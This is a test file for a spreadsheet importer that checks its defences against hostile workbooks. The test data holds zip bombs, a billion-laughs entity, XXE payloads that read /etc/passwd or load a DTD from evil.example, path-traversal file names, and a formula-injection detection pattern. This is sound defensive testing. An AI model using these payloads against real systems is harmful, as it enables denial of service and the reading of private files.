import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { afterAll, describe, expect, test } from 'vitest';
import { readCsv } from '../../src/exports/read-csv.ts';
import { parseWorkbook } from '../../src/importers/table/file/read-workbook.ts';
import { TableError } from '../../src/importers/table/table-error.ts';
import { readDataSet } from '../../src/model/read-data.ts';
import { templateOf } from '../../src/publishing/template/template-content.ts';
import { writeTemplate } from '../../src/publishing/template/template-files.ts';
import { randomFrom } from '../build/faults/random.ts';
import { tinyData } from '../build/faults/tiny-data.ts';
import { plant } from './planted-data.ts';

// Workbooks that want to fill the memory, read files or run formulas; made by hand, because no spreadsheet program makes them.

const MEGABYTE = 2 ** 20;
const TYPES = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`;
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** The parts of a workbook with these worksheets, given as XML. */
function parts(sheets: readonly (string | Uint8Array)[], head = ''): Record<string, Uint8Array> {
  const list = sheets.map((_sheet, index) => `<sheet name="s${index}" sheetId="${index + 1}" r:id="r${index}"/>`);
  const links = sheets.map(
    (_sheet, index) => `<Relationship Id="r${index}" Type="${RELATIONS}/worksheet" Target="worksheets/s${index}.xml"/>`,
  );
  const relations = (inner: string) =>
    strToU8(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`,
    );
  return {
    '[Content_Types].xml': strToU8(TYPES),
    '_rels/.rels': relations(`<Relationship Id="a" Type="${RELATIONS}/officeDocument" Target="xl/workbook.xml"/>`),
    'xl/workbook.xml': strToU8(
      `${head}<workbook xmlns="${MAIN}" xmlns:r="${RELATIONS}"><sheets>${list.join('')}</sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': relations(links.join('')),
    ...Object.fromEntries(
      sheets.map((sheet, index) => [`xl/worksheets/s${index}.xml`, typeof sheet === 'string' ? strToU8(sheet) : sheet]),
    ),
  };
}

const sheetOf = (rows: string) => `<worksheet xmlns="${MAIN}"><sheetData>${rows}</sheetData></worksheet>`;
const text = (value: string) => `<row r="1"><c r="A1" t="inlineStr"><is><t>${value}</t></is></c></row>`;
const read = (all: Record<string, Uint8Array>) => parseWorkbook(zipSync(all), 'x.xlsx');

describe('a workbook that means harm', () => {
  test('is known by one that does not', () => {
    const { worksheets } = read(parts([sheetOf(text('値'))]));
    expect(JSON.stringify(worksheets)).toContain('値');
  });

  test('a part that unpacks to a gigabyte is refused before it is unpacked', () => {
    const bomb = zipSync(parts([new Uint8Array(64 * MEGABYTE).fill(32)]));
    // What the directory says of it: a gigabyte.
    expect(() => parseWorkbook(withSize(bomb, 64 * MEGABYTE, 1024 * MEGABYTE), 'x.xlsx')).toThrow(TableError);
    expect(() => parseWorkbook(bomb, 'x.xlsx')).toThrow(/異常に大きく/);
  });

  test('a part that says it is small is cut off at what it says', () => {
    const bomb = zipSync(parts([new Uint8Array(64 * MEGABYTE).fill(32)]));
    expect(() => parseWorkbook(withSize(bomb, 64 * MEGABYTE, 1000), 'x.xlsx')).toThrow(TableError);
  });

  test('many parts that all lie over one another are refused together', () => {
    const others = Array.from({ length: 23 }, () => '');
    const zip = zipSync(parts([sheetOf(' '.repeat(19 * MEGABYTE)), ...others]));
    expect(() => parseWorkbook(overlapping(zip, 'xl/worksheets/s0.xml'), 'x.xlsx')).toThrow(/異常に大きく/);
  });

  test.each([
    [
      'billion laughs',
      '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
      '&c;',
    ],
    ['a file of the machine', '<!DOCTYPE x [<!ENTITY c SYSTEM "file:///etc/passwd">]>', '&c;'],
    ['another host', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">', 'x'],
  ])('entities are not followed: %s', (_name, head, value) => {
    let shown = '';
    try {
      shown = JSON.stringify(read(parts([head + sheetOf(text(value))])));
    } catch (error) {
      expect(error).toBeInstanceOf(TableError);
    }
    expect(shown).not.toMatch(/aaaaaaaaaa|root:/);
  });

  test('names of parts that lead elsewhere are no files', () => {
    const { worksheets } = read({
      ...parts([sheetOf(text('値'))]),
      '../../evil.txt': strToU8('x'),
      '/etc/evil': strToU8('x'),
    });
    expect(worksheets).toHaveLength(1);
  });

  test('cut off, and with bytes changed: refused in Japanese, or read', () => {
    const random = randomFrom(3);
    const good = zipSync(parts([sheetOf(text('値')), sheetOf(text('1'))]));
    for (let round = 0; round < 300; round += 1) {
      const bytes = good.slice(0, random() < 0.3 ? Math.floor(random() * good.length) : good.length);
      for (let time = 0; time < 3; time += 1) bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256);
      try {
        parseWorkbook(bytes, 'x.xlsx');
      } catch (error) {
        expect(error, (error as Error).stack).toBeInstanceOf(TableError);
      }
    }
  });
});

/** The same zip, the sizes of one part changed wherever they stand. */
function withSize(zip: Uint8Array, from: number, to: number): Uint8Array {
  const bytes = zip.slice();
  const view = new DataView(bytes.buffer);
  for (let at = 0; at + 4 <= bytes.length; at += 1) {
    if (view.getUint32(at, true) === from) view.setUint32(at, to, true);
  }
  return bytes;
}

/** The same zip, every worksheet of which stands where the first one stands (a bomb after David Fifield). */
function overlapping(zip: Uint8Array, first: string): Uint8Array {
  const bytes = zip.slice();
  const view = new DataView(bytes.buffer);
  const records = [...bytes.keys()].filter((at) => at + 46 < bytes.length && view.getUint32(at, true) === 0x02014b50);
  const nameAt = (at: number) =>
    new TextDecoder().decode(bytes.subarray(at + 46, at + 46 + view.getUint16(at + 28, true)));
  const source = records.find((at) => nameAt(at) === first)!;
  for (const at of records.filter((each) => nameAt(each).startsWith('xl/worksheets/'))) {
    bytes.copyWithin(at + 10, source + 10, source + 28);
    bytes.copyWithin(at + 42, source + 42, source + 46);
  }
  return bytes;
}

describe('files that this project writes for spreadsheets', () => {
  const room = mkdtempSync(join(tmpdir(), 'template-'));
  afterAll(() => rmSync(room, { recursive: true }));

  test('the template of a city full of formulas has texts, and none runs', async () => {
    tinyData('data', join(room, 'data'));
    plant(join(room, 'data'));
    const { data } = readDataSet(join(room, 'data'));
    await writeTemplate(join(room, 'out'), 'template', templateOf(data!, { edition: 2025, date: '2026-11-23' }));
    const files = readdirSync(join(room, 'out'), { recursive: true, encoding: 'utf8' });
    const workbooks = files.filter((file) => file.endsWith('.xlsx'));
    expect(workbooks.length).toBeGreaterThan(0);
    for (const file of workbooks) {
      const xml = Object.entries(unzipSync(readFileSync(join(room, 'out', file)))).filter(([name]) =>
        name.includes('worksheets/'),
      );
      expect(xml.length).toBeGreaterThan(0);
      for (const [name, content] of xml) expect(Buffer.from(content).toString(), name).not.toMatch(/<f[ >]/);
    }
    const cells = files
      .filter((file) => file.endsWith('.csv'))
      .flatMap((file) => {
        const { header, rows } = readCsv(readFileSync(join(room, 'out', file), 'utf8'));
        return [header, ...rows].flat();
      });
    expect(cells.filter((cell) => /^\s*[=+@＝＋＠]|^[-－](?!$|\d+(\.\d+)?$)/.test(cell))).toEqual([]);
  });
});
